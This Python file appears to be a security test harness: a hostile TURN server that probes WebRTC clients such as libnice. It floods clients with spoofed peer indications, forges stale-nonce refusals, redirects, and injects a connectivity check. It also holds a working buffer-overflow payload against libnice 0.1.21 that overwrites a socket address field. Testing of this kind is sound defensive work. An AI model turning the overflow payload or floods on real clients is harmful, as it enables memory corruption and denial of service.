"""A hostile TURN server: after an allocation it claims that datagrams came from many addresses (RFC 8656 §11.4).

It reports how many of them it claimed, and how many permissions for addresses the client asked for meanwhile. With
`--refuse`, it answers each request for a permission with a new nonce, after a false message of success. With
`--lifetime 0`, its allocations are over at once. With `--redirect`, it listens on TCP and names another server. With
`--overflow`, it listens on TCP and sends a message that is longer than the client's buffer. With `--request FILE`, it
listens on TCP and sends the client a connectivity check with the ICE credentials in the file. With `--empty`, it listens
on TCP, sends the client an empty message of a channel, and reports whether the client answers afterwards.
"""

import argparse
import hashlib
import os
import socket
import struct
import time
from contextlib import suppress
from pathlib import Path

from aioice import stun

from peers.report import report

REALM = "turn.test"
# The indications that are sent at once, and the pause after them, so that none is lost on its way.
BURST, PAUSE = 20, 0.002


def main() -> None:
    arguments = argparse.ArgumentParser()
    arguments.add_argument("--host", required=True)
    arguments.add_argument("--number", type=int, default=0)
    arguments.add_argument("--lifetime", type=int, default=600)
    arguments.add_argument("--refuse", action="store_true")
    arguments.add_argument("--overflow", action="store_true")
    arguments.add_argument("--redirect", action="store_true")
    arguments.add_argument("--request", type=Path)
    arguments.add_argument("--empty", action="store_true")
    chosen = arguments.parse_args()
    if chosen.redirect:
        return redirect(chosen.host)
    if chosen.overflow:
        return overflow(chosen.host)
    if chosen.request:
        return request(chosen.host, chosen.request)
    if chosen.empty:
        return empty(chosen.host)
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((chosen.host, 0))
    report("listening", url=f"turn:ann:secret@{chosen.host}:{server.getsockname()[1]}")
    requests = Requests(server, chosen.lifetime, chosen.refuse)
    while not requests.allocate():
        pass
    server.setblocking(False)
    if chosen.refuse:
        while requests.permissions == 0:
            requests.drain()
            time.sleep(0.001)
        end = time.monotonic() + 3
        while time.monotonic() < end:
            requests.drain()
            time.sleep(0.001)
        report("refused", permissions=requests.permissions)
    for start in range(0, chosen.number, BURST):
        for index in range(start, start + BURST):
            server.sendto(indication(index), requests.client)
        time.sleep(PAUSE)
        requests.drain()
    time.sleep(1)
    requests.drain()
    report("flooded", number=chosen.number, permissions=requests.permissions)
    server.setblocking(True)
    while True:
        requests.answer()


def overflow(host: str) -> None:
    """Sends each client a STUN message that exceeds the buffer of libnice 0.1.21 by 20 bytes.

    They give its fields for the bytes that were read and are expected values by which the next eight bytes become the
    address of its socket.
    """
    server = socket.create_server((host, 0))
    report("listening", url=f"turn:ann:secret@{host}:{server.getsockname()[1]}?transport=tcp")
    while True:
        client, _ = server.accept()
        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        fields = bytes(4) + struct.pack("<QI", 65_536, 65_564) + bytes(4)
        with suppress(OSError):
            for part in (b"\x00\x01\xff\xff" + bytes(65_532), fields, b"A" * 8, b"A" * 100):
                client.sendall(part)
                time.sleep(0.5)
        report("overflowed")


def redirect(host: str) -> None:
    """Answers over TCP that another server is to be used (RFC 8489 §10), at an address to which nothing connects."""
    server = socket.create_server((host, 0))
    report("listening", url=f"turn:ann:secret@{host}:{server.getsockname()[1]}?transport=tcp")
    error = b"\x00\x09\x00\x04\x00\x00\x03\x00"
    alternate = b"\x80\x23\x00\x08\x00\x01\x00\x01\xff\xff\xff\xff"
    clients = []
    while True:
        client, _ = server.accept()
        clients.append(client)
        request = client.recv(4096)
        length = struct.pack(">H", len(error + alternate))
        client.sendall(b"\x01\x13" + length + request[4:20] + error + alternate)
        time.sleep(0.5)
        report("redirected")


def first_client(host: str) -> tuple["Stream", "Requests"]:
    """Listens on TCP until a client has an allocation."""
    server = socket.create_server((host, 0))
    report("listening", url=f"turn:ann:secret@{host}:{server.getsockname()[1]}?transport=tcp")
    stream = Stream(server.accept()[0])
    requests = Requests(stream, 600, False)
    while not requests.allocate():
        pass
    return stream, requests


def request(host: str, credentials: Path) -> None:
    """Sends the first client a connectivity check after its allocation, once the file has two lines."""
    stream, requests = first_client(host)
    while not credentials.exists() or credentials.read_text().count("\n") < 2:
        time.sleep(0.02)
    name, password = credentials.read_text().split()
    check = stun.Message(message_method=stun.Method.BINDING, message_class=stun.Class.REQUEST)
    check.attributes["USERNAME"] = f"{name}:false"
    check.attributes["PRIORITY"] = 1
    check.attributes["ICE-CONTROLLED"] = 0
    check.add_message_integrity(password.encode())
    stream.sendto(bytes(check), None)
    report("requested")
    with suppress(EOFError):
        while True:
            requests.answer()


def empty(host: str) -> None:
    """Sends the first client an empty ChannelData message with another message behind it (RFC 8656 §12.4)."""
    stream, requests = first_client(host)
    stream.sendto(b"\x40\x00\x00\x00" + b"\x40\x00\x00\x04data", None)
    with suppress(EOFError):
        # The client asks for permissions as long as it uses the connection.
        while requests.answer() != stun.Method.CREATE_PERMISSION:
            pass
        report("alive")


class Stream:
    """A TCP connection with the methods of a UDP socket."""

    def __init__(self, connection: socket.socket):
        self.connection = connection
        self.getsockname = connection.getsockname

    def sendto(self, data: bytes, client) -> None:
        self.connection.sendall(data)

    def recvfrom(self, size: int) -> tuple[bytes, tuple[str, int]]:
        header = self.receive(20)
        return header + self.receive(struct.unpack_from(">H", header, 2)[0]), self.connection.getpeername()

    def receive(self, count: int) -> bytes:
        data = self.connection.recv(count, socket.MSG_WAITALL)
        if len(data) < count:
            raise EOFError
        return data


def indication(index: int) -> bytes:
    """Returns a datagram from one of 16 million addresses, in each of the two types that libnice reads."""
    message = stun.Message(message_method=stun.Method.DATA, message_class=stun.Class.INDICATION)
    sender = (f"198.{18 + index // 2**16 % 2}.{index // 256 % 256}.{index % 256}", 1024 + index % 60_000)
    message.attributes["XOR-PEER-ADDRESS"] = sender
    message.attributes["DATA"] = b"hello"
    data = bytes(message)
    return data if index % 2 else b"\x01\x15" + data[2:]


class Requests:
    """The requests of the client: one user with any name and the password `secret`."""

    def __init__(self, server: socket.socket, lifetime: int, refuses: bool):
        self.server, self.lifetime, self.refuses, self.client = server, lifetime, refuses, None
        self.permissions = 0

    def allocate(self) -> bool:
        """Answers a request; returns whether the client has an allocation afterwards."""
        return self.answer() == stun.Method.ALLOCATE

    def drain(self) -> None:
        """Answers the requests that have arrived."""
        try:
            while True:
                self.answer()
        except BlockingIOError:
            pass

    def answer(self) -> stun.Method | None:
        """Answers a request; returns the method of one that was authenticated."""
        data, client = self.server.recvfrom(4096)
        try:
            request = stun.parse_message(data)
        except ValueError:
            return None
        if request.message_class != stun.Class.REQUEST:
            return None
        response = stun.Message(
            message_method=request.message_method, message_class=stun.Class.RESPONSE,
            transaction_id=request.transaction_id)
        if "USERNAME" not in request.attributes:
            response.message_class = stun.Class.ERROR
            response.attributes["ERROR-CODE"] = (401, "Unauthorized")
            response.attributes["NONCE"] = os.urandom(8).hex().encode()
            response.attributes["REALM"] = REALM
            self.server.sendto(bytes(response), client)
            return None
        if request.message_method == stun.Method.CREATE_PERMISSION:
            self.permissions += 1
            if self.refuses:
                self.server.sendto(b"\x01\x08\x00\x00\x21\x12\xa4\x42" + os.urandom(12), client)
                response.message_class = stun.Class.ERROR
                response.attributes["ERROR-CODE"] = (438, "Stale Nonce")
                response.attributes["NONCE"] = os.urandom(8).hex().encode()
                response.attributes["REALM"] = REALM
                self.server.sendto(bytes(response), client)
                return request.message_method
        if request.message_method == stun.Method.ALLOCATE:
            self.client = client
            response.attributes["XOR-RELAYED-ADDRESS"] = (self.server.getsockname()[0], 50_000)
            response.attributes["XOR-MAPPED-ADDRESS"] = client
        response.attributes["LIFETIME"] = self.lifetime
        user = request.attributes["USERNAME"]
        response.add_message_integrity(hashlib.md5(f"{user}:{REALM}:secret".encode()).digest())
        self.server.sendto(bytes(response), client)
        return request.message_method


if __name__ == "__main__":
    main()
